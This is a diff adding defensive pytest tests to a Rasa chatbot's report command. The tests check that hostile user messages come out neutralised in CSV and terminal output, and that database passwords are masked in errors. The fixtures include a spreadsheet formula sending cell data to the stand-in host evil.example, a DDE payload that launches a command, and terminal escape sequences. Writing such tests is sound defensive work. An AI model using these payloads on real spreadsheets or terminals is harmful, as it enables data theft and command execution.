@@ -13,7 +13,9 @@ from __future__ import annotations
 import asyncio
 import csv
 import datetime as dt
+import io
 import os
+import re
 import secrets
 import subprocess
 from collections.abc import Iterator
@@ -545,3 +547,179 @@ def test_report_on_real_conversations_in_postgresql(postgres_schema, actions_ser
         actions_server, POSTGRES_URL, tmp_path, env={"POSTGRESQL_SCHEMA": postgres_schema}
     )
     check_real_report(report)
+
+
+# ----- hostile messages: the report is safe in a spreadsheet and a terminal ---------------------
+
+#: What users can type, each sent as a question the bot did not understand (subject = the text).
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+HOSTILE = {
+    "hyperlink": HYPERLINK,
+    "dde": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)",
+    "minus": "-2+3",
+    "spaced": "   =1+1",
+    "tab": "\t=1+1",
+    "osc": "\x1b]0;pwned\x07\x1b[2Jscreen cleared",
+    "c1": "\x9b31mred\x9d0;title\x9c text",
+    "bidi": "abc \u202eevil\u202c def",
+    "surrogate": "Lagos \ud800 ?",
+    "newlines": "line one\r\nline two\n=1+1",
+    "huge": "blah " * 200_000,  # 1 MB
+}
+#: Characters that must never reach the terminal or a cell: C0 (newline aside), DEL, C1, surrogates.
+FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
+
+
+def hostile_turn(sender: str, text: str, minute: float, parse_text: str | None = None, entities=()):
+    """A not-understood question as Rasa stores it; `parse_text` is what the NLU saw."""
+    from rasa.shared.core.events import UserUttered
+
+    parse = {
+        "intent": {"name": "nlu_fallback", "confidence": 0.3},
+        "entities": list(entities),
+        "text": text if parse_text is None else parse_text,
+        "intent_ranking": [{"name": "nlu_fallback", "confidence": 0.3}],
+    }
+    return [
+        UserUttered(text, parse_data=parse, timestamp=_at(minute)),
+        language("en", minute + 0.1),
+        bot("utter_fallback", "Sorry?", minute + 0.2),
+    ]
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory) -> str:
+    conversations = {
+        f"hostile-{name}": hostile_turn(f"hostile-{name}", text, index)
+        for index, (name, text) in enumerate(HOSTILE.items())
+    }
+    # The NLU saw the cleaned text ("[31mLagos": MessageLimit drops the ESC); the entity offsets
+    # point into it, so "Lagos" is at 4 there but at 5 in the raw text.
+    conversations["offsets"] = [
+        *hostile_turn("offsets", "\x1b[31mLagos", 30, parse_text="[31mLagos"),
+    ]
+    conversations["offsets"][0].parse_data["intent"] = {"name": "ask_city", "confidence": 0.9}
+    conversations["offsets"][0].parse_data["entities"] = [
+        {"entity": "city", "value": "Lagos", "start": 4, "end": 9}
+    ]
+    conversations["offsets"][2] = bot("utter_unknown_city", "I know nothing of Lagos.", 30.2, city="Lagos")
+    # REST stores a client's metadata as sent: a "language" that is an object stopped the report.
+    conversations["metadata"] = hostile_turn("metadata", "zqxmetadata", 40)
+    conversations["metadata"][0].metadata = {"language": {"code": ["fr"]}}
+    del conversations["metadata"][1]  # no language slot: the hint is all the report has
+    return write_store(tmp_path_factory.mktemp("hostile") / "conversations.db", conversations)
+
+
+def run_report(store: str, tmp_path: Path, capsys) -> tuple[str, list[list[str]], bytes]:
+    out_csv = tmp_path / "unanswered.csv"
+    assert main(["report", "unanswered", "--store", store, "--csv", str(out_csv)]) == 0
+    raw = out_csv.read_bytes()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    return capsys.readouterr().out, rows, raw
+
+
+def test_hostile_messages_make_a_safe_csv(hostile_store, tmp_path, capsys):
+    _, rows, raw = run_report(hostile_store, tmp_path, capsys)
+    header, body = rows[0], rows[1:]
+    asked = {row[header.index("asked")] for row in body}
+    for row in body:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", " ")), value
+            assert not FORBIDDEN.search(value), repr(value)
+            assert len(value) <= 1001
+    assert "'" + HYPERLINK in asked  # shown as typed, but as text
+    assert {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'=1+1"} <= asked
+    assert "screen cleared" in asked  # the OSC and CSI sequences removed whole, no "]0;" debris
+    assert "red text" in asked
+    assert "abc evil def" in asked
+    assert "Lagos ? ?" in asked  # the lone surrogate became "?"
+    assert "line one line two =1+1" in asked
+    assert "zqxmetadata" in asked
+    huge = next(value for value in asked if value.startswith("blah"))
+    assert len(huge) == 200 and huge.endswith("…")
+    assert ("unknown_city", "Lagos") in {(row[0], row[header.index("asked")]) for row in body}
+    raw.decode("utf-8")  # strict: no surrogate could be written
+    # Text cells are quoted: a spreadsheet splitting on ";" or "," cannot start a cell inside one.
+    assert b'"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"' in raw
+
+
+def test_hostile_messages_make_a_safe_terminal_report(hostile_store, tmp_path, capsys):
+    text, _, _ = run_report(hostile_store, tmp_path, capsys)
+    assert not FORBIDDEN.search(text), [line for line in text.splitlines() if FORBIDDEN.search(line)]
+    assert "]0;" not in text and "[2J" not in text
+    assert max(len(line) for line in text.splitlines()) < 300  # the 1 MB message is one short line
+    assert f"  {HYPERLINK}  x1" in text  # the terminal shows it as typed: it is no formula there
+    text.encode("utf-8")
+
+
+def test_subjects_come_from_the_text_the_entity_offsets_point_into(hostile_store):
+    groups = by_reason(unanswered_groups(hostile_store))
+    assert ("unknown_city", "Lagos") in groups  # the raw text would give "1mLag"
+    assert groups[("unknown_city", "Lagos")].examples() == ["[31mLagos"]
+
+
+def test_subjects_fall_back_to_the_stored_text_without_parse_text(tmp_path):
+    conversation = hostile_turn("old", "Qu'a fait Lagos ?", 0)
+    del conversation[0].parse_data["text"]
+    groups = unanswered_groups(write_store(tmp_path / "c.db", {"old": conversation}))
+    assert [g.subject for g in groups] == ["Qu'a fait Lagos ?"]
+
+
+def test_report_prints_on_a_terminal_that_cannot_show_accents(hostile_store, tmp_path):
+    """LANG=C or a Latin-1 console: "?" for what it cannot show, never an encoding traceback."""
+    result = subprocess.run(
+        [str(CITYBOT), "report", "unanswered", "--store", hostile_store],
+        capture_output=True,
+        timeout=120,
+        env={**os.environ, "PYTHONIOENCODING": "ascii"},
+    )
+    assert result.returncode == 0, result.stderr.decode(errors="replace")
+    assert b"Traceback" not in result.stderr
+    assert b"'=1+1" not in result.stdout and b"=1+1  x" in result.stdout  # no "'" on screen
+    assert b"\x1b" not in result.stdout
+
+
+def test_a_row_that_is_not_utf8_does_not_stop_the_report(store, tmp_path):
+    import shutil
+    import sqlite3
+
+    copy = tmp_path / "copy.db"
+    shutil.copy(store.removeprefix("sqlite:///"), copy)
+    with sqlite3.connect(copy) as connection:
+        connection.execute(
+            "insert into events (sender_id, type_name, timestamp, data) "
+            "values ('broken', 'user', ?, cast(? as text))",
+            (_at(5), b'{"event": "user", "text": "caf\xe9 \xff"}'),
+        )
+    groups = by_reason(unanswered_groups(f"sqlite:///{copy}"))
+    assert groups[("no_reply", "caf\ufffd \ufffd")].count == 1
+    assert ("unknown_city", "Lagos") in groups  # and every other conversation is still read
+
+
+# ----- the store's URL never shows its password -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "postgresql://staff:s3cret@127.0.0.1:1/test",  # parsed: SQLAlchemy's error
+        "postgresql://staff:s3cret@db:port/test",  # a port that is no number: unparsable
+        "postgresql://staff:s3c@ret@127.0.0.1:1/test",  # an unencoded "@": SQLAlchemy shows "ret"
+        "nonsense://staff:s3cret@db/test",  # no such database dialect
+        "not a url://staff:s3cret@db",  # not a URL at all
+    ],
+)
+def test_no_error_message_shows_the_password(url, capsys, monkeypatch):
+    monkeypatch.setenv("TRACKER_STORE_URL", url)
+    assert main(["report", "unanswered"]) in (1, 2)
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "staff:***@" in err, err
+    assert "s3c" not in err and "ret@" not in err, err
+
+
+def test_a_password_on_the_command_line_is_warned_about(capsys):
+    assert main(["report", "unanswered", "--store", "postgresql://staff:s3cret@127.0.0.1:1/test"]) == 1
+    err = capsys.readouterr().err
+    assert "warning: the password in --store is visible" in err and "set TRACKER_STORE_URL instead" in err
+    assert "s3cret" not in err
